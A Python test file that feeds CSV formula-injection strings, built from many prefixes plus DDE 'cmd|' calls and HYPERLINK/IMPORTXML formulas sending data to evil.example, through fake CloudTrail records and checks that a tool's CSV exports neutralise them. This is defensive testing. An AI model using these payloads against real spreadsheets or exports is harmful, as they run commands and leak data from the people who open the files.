"""What is written for spreadsheets holds no formula, as a library that reads and writes spreadsheets tells one."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import Workbook
from openpyxl.cell.cell import TYPE_FORMULA

from tests.cli.logs import livefire, record

BEGIN = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "＝", "＋", "－", "＠", "\u200b=", "\ufeff=", " =", "\x00=")
END = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1)', "SUM(1)*cmd|'/C calc'!A0", 'IMPORTXML(CONCAT("//evil.example"))')
STRINGS = [b + e for b in BEGIN for e in END]


def formulas(rows: list[list[str]]) -> list[str]:
    """Return the cells that a spreadsheet would calculate: a library's own judgement, and what begins as the products take a formula to begin."""
    sheet = Workbook().active
    assert sheet is not None
    for row in rows:
        sheet.append(["".join(c for c in cell if c.isprintable()) for cell in row])
    taken = [str(cell.value) for line in sheet.iter_rows() for cell in line if cell.data_type == TYPE_FORMULA]
    return taken + [cell for row in rows for cell in row if cell[:1] and cell[0] in "=+-@\t\r\n|＝＋－＠"]


def test_the_judge_knows_a_formula() -> None:
    assert formulas([["=1+1", "mo"]])
    assert formulas([["@SUM(1)"]])
    assert formulas([["mo", "'=1+1"]]) == []


@pytest.mark.slow
def test_no_cell_of_a_baseline_for_a_product_is_a_formula(tmp_path: Path) -> None:
    """Each string is a user, an agent and a region: fields that a caller chooses, and that a baseline keeps."""
    records = [
        record(
            n % 60,
            userAgent=t,
            awsRegion=t,
            eventID=f"44444444-0000-0000-0000-{n:012x}",
            userIdentity={"type": "IAMUser", "arn": t, "accountId": t, "userName": t},
        )
        for n, t in enumerate(STRINGS)
    ]
    logs = tmp_path / "logs.json"
    logs.write_text(json.dumps({"Records": records}), encoding="utf-8")
    for to in ("sentinel", "splunk", "logscale"):
        out = tmp_path / f"{to}.csv"
        assert livefire("baseline", logs, "--to", to, "--out", out).exit_code == 0
        rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
        held = " ".join(cell for row in rows for cell in row)
        assert held.count("calc") >= len(BEGIN)  # the strings are there, harmless
        assert formulas(rows) == []
